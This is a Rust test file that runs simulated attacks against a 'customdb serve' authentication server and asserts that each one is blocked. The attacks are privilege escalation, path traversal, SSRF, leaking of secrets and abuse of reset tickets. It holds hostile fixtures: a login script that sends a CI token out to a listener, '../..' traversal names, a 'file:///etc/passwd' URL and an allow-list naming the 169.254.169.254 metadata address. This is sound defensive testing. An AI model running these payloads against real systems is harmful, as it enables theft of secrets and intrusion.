//! Attacks on the boundaries, each against a real `customdb serve` (or the real CLI) and
//! asserted on what the attacker would see: end users never get administrator tokens, names
//! never become paths, tenants never reach internal addresses, secrets never leave, tickets
//! cannot be evicted by strangers.

use crate::serve::{admin, call, start, start_in};
use crate::util::block_on;
use serde_json::{Value, json};

const REALM: &str = "http://auth0.com/oauth/grant-type/password-realm";

/// The claims of a token, without checking its signature (the attacker's view of it).
fn claims(token: &str) -> Value {
    use base64::Engine as _;
    let payload = token.split('.').nth(1).unwrap();
    serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .unwrap(),
    )
    .unwrap()
}

#[test]
fn a_stranger_who_signs_up_never_gets_a_management_token() {
    let s = start();
    block_on(async {
        let (status, _) = s
            .call(
                "POST",
                "/dbconnections/signup",
                None,
                Some(json!({
            "client_id": s.app_id, "connection": "Username-Password-Authentication",
            "email": "mallory@example.com", "password": "mallory's password"})),
            )
            .await;
        assert_eq!(status, 200);
        for grant in [
            json!({"grant_type": "password"}),
            json!({"grant_type": REALM, "realm": "Username-Password-Authentication"}),
            json!({"grant_type": "password", "audience": format!("https://{}/api/v2/", s.base.trim_start_matches("http://"))}),
        ] {
            let mut body = grant.clone();
            body["client_id"] = json!(s.app_id);
            body["username"] = json!("mallory@example.com");
            body["password"] = json!("mallory's password");
            body["scope"] =
                json!("openid read:users update:connections create:connections read:logs");
            let (status, tokens) = s.call("POST", "/oauth/token", None, Some(body)).await;
            assert_eq!(status, 200, "{tokens}");
            assert_eq!(
                tokens["scope"], "openid",
                "{grant}: only OpenID scopes are granted"
            );
            let token = tokens["access_token"].as_str().unwrap();
            assert_eq!(claims(token)["scope"], "openid");
            assert_eq!(claims(token)["gty"], "password");
            for (method, path, body) in [
                ("GET", "/api/v2/users".to_string(), None),
                ("GET", "/api/v2/connections".to_string(), None),
                (
                    "POST",
                    "/api/v2/connections/con_demo/try".to_string(),
                    Some(json!({"action": "get_user", "args": ["alice@example.com"]})),
                ),
            ] {
                let (status, answer) =
                    call(method, &format!("{}{path}", s.base), Some(token), body).await;
                assert_eq!(
                    (status, answer["errorCode"].as_str()),
                    (401, Some("invalid_token")),
                    "{grant} {path}: {answer}"
                );
            }
        }
    });
}

#[test]
fn clients_authenticate_as_their_model_says() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    // A confidential web application of the demo tenant, beside the demo's own clients.
    let printed = admin(
        &data,
        &[
            "client",
            "demo",
            "--grant-type",
            "password-realm",
            "--name",
            "web app",
        ],
    );
    let field = |name: &str| {
        printed
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .unwrap()
            .trim()
            .to_string()
    };
    let (web_id, web_secret) = (field("client_id "), field("client_secret "));
    let s = start_in(dir);
    block_on(async {
        let token = |body: Value, basic: Option<(String, String)>| {
            let url = format!("{}/oauth/token", s.base);
            async move {
                let mut req = reqwest::Client::new()
                    .post(url)
                    .header("content-type", "application/json")
                    .body(body.to_string());
                if let Some((id, secret)) = basic {
                    req = req.basic_auth(id, Some(secret));
                }
                let resp = req.send().await.unwrap();
                let status = resp.status().as_u16();
                (
                    status,
                    serde_json::from_str::<Value>(&resp.text().await.unwrap()).unwrap(),
                )
            }
        };
        let login = |client: &str| {
            json!({"grant_type": REALM, "realm": "Username-Password-Authentication",
            "client_id": client, "username": "alice@example.com", "password": "correct horse battery staple"})
        };
        // A confidential client proves its secret on a password-realm login.
        type Case<'a> = (&'a str, Value, Option<(String, String)>, u16, &'a str);
        let cases: Vec<Case> = vec![
            ("no secret", login(&web_id), None, 401, "access_denied"),
            (
                "a wrong secret",
                {
                    let mut b = login(&web_id);
                    b["client_secret"] = json!("guess");
                    b
                },
                None,
                401,
                "access_denied",
            ),
            (
                "a wrong secret in Basic",
                login(&web_id),
                Some((web_id.clone(), "guess".into())),
                401,
                "access_denied",
            ),
            (
                "Basic for another client",
                login(&web_id),
                Some((s.client_id.clone(), s.client_secret.clone())),
                401,
                "access_denied",
            ),
            (
                "the management client logging users in",
                {
                    let mut b = login(&s.client_id);
                    b["client_secret"] = json!(s.client_secret);
                    b
                },
                None,
                403,
                "unauthorized_client",
            ),
            (
                "a public client asking for a management token",
                json!({"grant_type": "client_credentials", "client_id": s.app_id}),
                None,
                403,
                "unauthorized_client",
            ),
            (
                "a management token for another audience",
                json!({"grant_type": "client_credentials", "client_id": s.client_id, "client_secret": s.client_secret, "audience": "https://evil.example/api/v2/"}),
                None,
                403,
                "access_denied",
            ),
        ];
        for (name, body, basic, status, error) in cases {
            let (got, answer) = token(body, basic).await;
            assert_eq!(
                (got, answer["error"].as_str()),
                (status, Some(error)),
                "{name}: {answer}"
            );
        }
        let mut right = login(&web_id);
        right["client_secret"] = json!(web_secret);
        assert_eq!(token(right, None).await.0, 200, "client_secret_post");
        assert_eq!(
            token(login(&web_id), Some((web_id.clone(), web_secret.clone())))
                .await
                .0,
            200,
            "client_secret_basic"
        );
        assert_eq!(
            token(login(&s.app_id), None).await.0,
            200,
            "a public client has no secret"
        );
        // A management token carries only the scopes granted, narrowed when asked.
        let (status, narrow) = token(
            json!({"grant_type": "client_credentials", "client_id": s.client_id,
            "client_secret": s.client_secret, "scope": "read:users delete:everything"}),
            None,
        )
        .await;
        assert_eq!(
            (status, narrow["scope"].as_str()),
            (200, Some("read:users")),
            "{narrow}"
        );
        let t = narrow["access_token"].as_str();
        assert_eq!(s.call("GET", "/api/v2/users", t, None).await.0, 200);
        assert_eq!(s.call("GET", "/api/v2/connections", t, None).await.0, 403);
    });
}

#[test]
fn tokens_are_signed_by_constant_time_rsa() {
    let lock = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.lock")).unwrap();
    assert!(
        !lock.contains("\nname = \"rsa\"\n"),
        "the rsa crate (RUSTSEC-2023-0071) must not be built"
    );
    // The tokens the server signs verify against its JWKS with an independent verifier.
    let s = start();
    block_on(async {
        let token = s.management_token().await;
        let (_, jwks) = s.call("GET", "/.well-known/jwks.json", None, None).await;
        let jwk: jsonwebtoken::jwk::Jwk = serde_json::from_value(jwks["keys"][0].clone()).unwrap();
        let mut validation = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::RS256);
        validation.validate_aud = false;
        jsonwebtoken::decode::<Value>(
            &token,
            &jsonwebtoken::DecodingKey::from_jwk(&jwk).unwrap(),
            &validation,
        )
        .unwrap();
    });
}

#[test]
fn a_connection_name_is_never_a_path() {
    let s = start();
    block_on(async {
        let token = s.management_token().await;
        let url = format!("{}/api/v2/connections", s.base);
        for name in ["../..", "/", "a/b", "..", "-x", "a--b", "tab\tname"] {
            let (status, answer) = call("POST", &url, Some(&token), Some(json!({"name": name, "strategy": "auth0",
                "options": {"customScripts": {"login": "function login(e, p, cb) { cb(null, null); }"}}}))).await;
            assert_eq!(status, 400, "{name}: {answer}");
            assert!(
                answer["message"]
                    .as_str()
                    .unwrap()
                    .contains("letters, digits and single dashes"),
                "{name}: {answer}"
            );
        }
        let (_, list) = call("GET", &url, Some(&token), None).await;
        assert_eq!(
            list.as_array().map(Vec::len),
            Some(1),
            "nothing was created: {list}"
        );
        // A valid connection's script works in a folder of its own, keyed by its id: the
        // server's store is not there, and `..` is refused.
        let probe = "function login(e, p, cb) { const sqlite3 = require('sqlite3'); \
            new sqlite3.Database(e, sqlite3.OPEN_READONLY, (err) => cb(null, { user_id: 1, email: 'x@example.com', nickname: err ? err.code + ' ' + err.message : 'opened' })); }";
        let (status, created) = call(
            "POST",
            &url,
            Some(&token),
            Some(json!({"name": "probe", "strategy": "auth0",
            "options": {"customScripts": {"login": probe}}})),
        )
        .await;
        assert_eq!(status, 201, "{created}");
        let try_url = format!("{url}/{}/try", created["id"].as_str().unwrap());
        for (path, why) in [
            ("store.db", "SQLITE_CANTOPEN"),
            ("../../store.db", "'..' is not allowed"),
        ] {
            let (status, run) = call(
                "POST",
                &try_url,
                Some(&token),
                Some(json!({"action": "login", "args": [path, "pw"]})),
            )
            .await;
            assert_eq!(status, 200, "{run}");
            let seen = run["result"]["nickname"].as_str().unwrap_or_default();
            assert!(seen.contains(why), "{path}: {run}");
        }
    });
}

#[test]
fn the_cli_refuses_a_connection_folder_whose_name_is_a_path() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("evil");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(
        folder.join("database.json"),
        r#"{"name": "../..", "options": {}}"#,
    )
    .unwrap();
    std::fs::write(
        folder.join("login.js"),
        "function login(e, p, cb) { cb(null, null); }",
    )
    .unwrap();
    let out = std::process::Command::new(crate::util::customdb_exe())
        .args(["tenant", "--data"])
        .arg(dir.path().join("data"))
        .args(["connection", "demo"])
        .arg(&folder)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("connection name '../..' is not valid"),
        "{stderr}"
    );
    for bad_tenant in ["../x", "Demo"] {
        let out = std::process::Command::new(crate::util::customdb_exe())
            .args(["tenant", "--data"])
            .arg(dir.path().join("data"))
            .args(["client", bad_tenant])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{bad_tenant}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("tenant"),
            "{out:?}"
        );
    }
}

/// A connection of the demo tenant whose login script fetches `url` and reports what happened.
async fn fetching_connection(
    s: &crate::serve::Server,
    token: &str,
    url: &str,
    allowed: Value,
) -> String {
    let script = format!(
        "function login(e, p, cb) {{ fetch({url:?}).then(r => cb(null, {{ user_id: 1, email: 'x@example.com', nickname: 'reached ' + r.status }}), \
         err => cb(null, {{ user_id: 1, email: 'x@example.com', nickname: String(err.cause ? err.cause.message : err.message) }})); }}"
    );
    let (status, created) = s
        .call(
            "POST",
            "/api/v2/connections",
            Some(token),
            Some(json!({
        "name": "fetcher", "strategy": "auth0",
        "options": {"customScripts": {"login": script}, "allowed_hosts": allowed}})),
        )
        .await;
    assert_eq!(status, 201, "{created}");
    let try_url = format!(
        "{}/api/v2/connections/{}/try",
        s.base,
        created["id"].as_str().unwrap()
    );
    let (status, run) = call(
        "POST",
        &try_url,
        Some(token),
        Some(json!({"action": "login", "args": ["x@example.com", "pw"]})),
    )
    .await;
    assert_eq!(status, 200, "{run}");
    run["result"]["nickname"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn a_tenant_cannot_list_its_way_into_internal_addresses() {
    let s = start();
    block_on(async {
        let token = s.management_token().await;
        let own = format!("{}/.well-known/jwks.json", s.base);
        let seen = fetching_connection(
            &s,
            &token,
            &own,
            json!(["127.0.0.1", "169.254.169.254", "localhost"]),
        )
        .await;
        assert!(
            seen.contains("internal address"),
            "the server's own port: {seen}"
        );
        assert!(seen.contains("--egress-allow-internal"), "{seen}");
    });
    drop(s);
    // The operator may open an internal address on purpose.
    let s = crate::serve::start_with(
        tempfile::tempdir().unwrap(),
        &["--egress-allow-internal", "127.0.0.1/32"],
    );
    block_on(async {
        let token = s.management_token().await;
        let own = format!("{}/.well-known/jwks.json", s.base);
        let seen = fetching_connection(&s, &token, &own, json!(["127.0.0.1"])).await;
        assert_eq!(seen, "reached 200");
    });
}

/// A connection folder as an untrusted pull request would bring it: its configuration names a
/// CI secret, its allow-list names a host it controls, and its login script sends whatever it
/// holds there.
fn exfiltrating_folder(
    root: &std::path::Path,
    port: u16,
    token_keyword: &str,
    expected_nickname: &str,
) -> std::path::PathBuf {
    let dir = root.join("evil");
    std::fs::create_dir_all(dir.join("cases")).unwrap();
    std::fs::write(
        dir.join("database.json"),
        json!({"name": "evil", "options": {
        "configuration": {"TOKEN": token_keyword},
        "allowed_hosts": [format!("127.0.0.1:{port}")]}})
        .to_string(),
    )
    .unwrap();
    std::fs::write(dir.join("login.js"), format!(
        "function login(e, p, cb) {{ fetch('http://127.0.0.1:{port}/?t=' + encodeURIComponent(configuration.TOKEN)).then(\
         (r) => cb(null, {{ user_id: 1, email: e, nickname: 'sent ' + r.status }}), (err) => cb(null, {{ user_id: 1, email: e, nickname: err.cause.code }})); }}")).unwrap();
    std::fs::write(
        dir.join("cases/login.json"),
        json!([{"name": "login", "action": "login",
        "args": ["a@example.com", "pw"], "expect": {"outcome": "success", "result": {"nickname": expected_nickname}}}])
        .to_string(),
    )
    .unwrap();
    dir
}

#[test]
fn customdb_test_never_sends_the_ci_environment_out() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let root = tempfile::tempdir().unwrap();
    let run = |dir: &std::path::Path, extra: &[&str]| {
        let out = std::process::Command::new(crate::util::customdb_exe())
            .args(["test", "--json"])
            .arg(dir)
            .args(extra)
            .env("GITHUB_TOKEN", "ghp_the-ci-secret-token")
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    // The keyword names an environment variable the CI has: it is not filled from it.
    let dir = exfiltrating_folder(root.path(), port, "##GITHUB_TOKEN##", "EGRESS_DENIED");
    let (code, report) = run(&dir, &[]);
    assert_eq!(code, Some(1), "{report}");
    assert!(
        report.contains("keyword ##GITHUB_TOKEN## has no value"),
        "{report}"
    );
    // With an honest configuration, the folder's own allow-list does not open the door either.
    let dir = exfiltrating_folder(root.path(), port, "not-a-secret", "EGRESS_DENIED");
    let (code, report) = run(&dir, &[]);
    assert_eq!(code, Some(0), "the script's fetch was refused: {report}");
    assert!(
        listener.accept().is_err(),
        "nothing reached the attacker's host"
    );
    // The operator may open it on the command line.
    listener.set_nonblocking(false).unwrap();
    let answer = std::thread::spawn(move || {
        use std::io::{Read as _, Write as _};
        let (mut socket, _) = listener.accept().unwrap();
        let mut request = [0u8; 4096];
        let n = socket.read(&mut request).unwrap();
        socket
            .write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
            .unwrap();
        String::from_utf8_lossy(&request[..n]).into_owned()
    });
    let dir = exfiltrating_folder(root.path(), port, "not-a-secret", "sent 204");
    let (code, report) = run(&dir, &["--allow-host", &format!("127.0.0.1:{port}")]);
    assert_eq!(code, Some(0), "--allow-host opens the host: {report}");
    assert!(answer.join().unwrap().contains("t=not-a-secret"));
}

#[test]
fn secrets_never_leave_in_any_field_or_form() {
    const PASSWORD: &str = "Tr0ub4dor&3 horse";
    const SECRET: &str = "s3cret-db-password";
    let s = start();
    let script = "function login(email, password, callback) {
        console.log('as json ' + JSON.stringify({ p: password }) + ' as url ' + encodeURIComponent(password));
        const e = new Error('the database said no to ' + password + ' with ' + configuration.DB_PASSWORD);
        e.name = 'Rejected ' + password;
        e.code = configuration.DB_PASSWORD;
        e.description = encodeURIComponent(configuration.DB_PASSWORD);
        callback(e);
    }";
    block_on(async {
        let token = s.management_token().await;
        let (status, created) = s.call("POST", "/api/v2/connections", Some(&token), Some(json!({
            "name": "leaky", "strategy": "auth0",
            "options": {"customScripts": {"login": script}, "configuration": {"DB_PASSWORD": SECRET}}}))).await;
        assert_eq!(status, 201, "{created}");
        // The end user sees Auth0's sentence and a request id, never the script's words.
        let (status, answer) = s
            .call(
                "POST",
                "/oauth/token",
                None,
                Some(json!({
            "grant_type": REALM, "realm": "leaky", "client_id": s.app_id,
            "username": "a@example.com", "password": PASSWORD})),
            )
            .await;
        assert_eq!(status, 500, "{answer}");
        assert_eq!(
            answer["error_description"],
            "Something went wrong while trying to reach your database."
        );
        assert_eq!(
            answer["request_id"].as_str().map(str::len),
            Some(32),
            "{answer}"
        );
        assert!(!answer.to_string().contains("database said no"), "{answer}");
        // The tenant's administrator sees the script's own error, redacted in every field.
        let (_, run) = call(
            "POST",
            &format!(
                "{}/api/v2/connections/{}/try",
                s.base,
                created["id"].as_str().unwrap()
            ),
            Some(&token),
            Some(json!({"action": "login", "args": ["a@example.com", PASSWORD]})),
        )
        .await;
        assert_eq!(run["error"]["name"], "Rejected [REDACTED]", "{run}");
        assert_eq!(run["error"]["code"], "[REDACTED]", "{run}");
        assert_eq!(run["error"]["description"], "[REDACTED]", "{run}");
        assert_eq!(
            run["console"][0]["message"], "as json {\"p\":\"[REDACTED]\"} as url [REDACTED]",
            "{run}"
        );
        let (_, logs) = s.call("GET", "/api/v2/logs", Some(&token), None).await;
        let seen = format!("{answer}{run}{logs}");
        let encoded: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
        for secret in [PASSWORD, SECRET, encoded.as_str()] {
            assert!(!seen.contains(secret), "{secret} leaked: {seen}");
        }
    });
    // Nor does the store hold them in clear (the configuration is sealed).
    let data = s.data_folder();
    for file in ["store.db", "store.db-wal"] {
        let bytes = std::fs::read(data.join(file)).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains(PASSWORD) && !text.contains(SECRET),
            "{file} holds a secret"
        );
    }
}

#[test]
fn strangers_cannot_evict_an_administrators_ticket() {
    let s = start();
    block_on(async {
        let token = s.management_token().await;
        let tickets = format!("{}/api/v2/tickets/password-change", s.base);
        // The user must be known to the store: a login caches her.
        s.log_alice_in().await;
        for bad in [
            "javascript:alert(1)",
            "data:text/html,hi",
            "file:///etc/passwd",
        ] {
            let (status, answer) = call(
                "POST",
                &tickets,
                Some(&token),
                Some(json!({
                "user_id": "auth0|1", "result_url": bad})),
            )
            .await;
            assert_eq!(status, 400, "{bad}: {answer}");
            assert!(
                answer["message"]
                    .as_str()
                    .unwrap()
                    .contains("http or https"),
                "{answer}"
            );
        }
        let (status, issued) = call(
            "POST",
            &tickets,
            Some(&token),
            Some(json!({"user_id": "auth0|1"})),
        )
        .await;
        assert_eq!(status, 201, "{issued}");
        let ticket = issued["ticket"].as_str().unwrap();
        let id = ticket
            .split("ticket=")
            .nth(1)
            .unwrap()
            .trim_end_matches('#')
            .to_string();
        for _ in 0..8 {
            let (status, _) = s.call("POST", "/dbconnections/change_password", None, Some(json!({
                "client_id": s.app_id, "email": "alice@example.com", "connection": "Username-Password-Authentication"}))).await;
            assert_eq!(status, 200);
        }
        let (status, answer) = s.call("POST", "/lo/reset", None, Some(json!({
            "ticket": id, "newPassword": "a brand new Passw0rd", "confirmNewPassword": "a brand new Passw0rd"}))).await;
        assert_eq!(
            status, 200,
            "the administrator's ticket still works: {answer}"
        );
    });
}
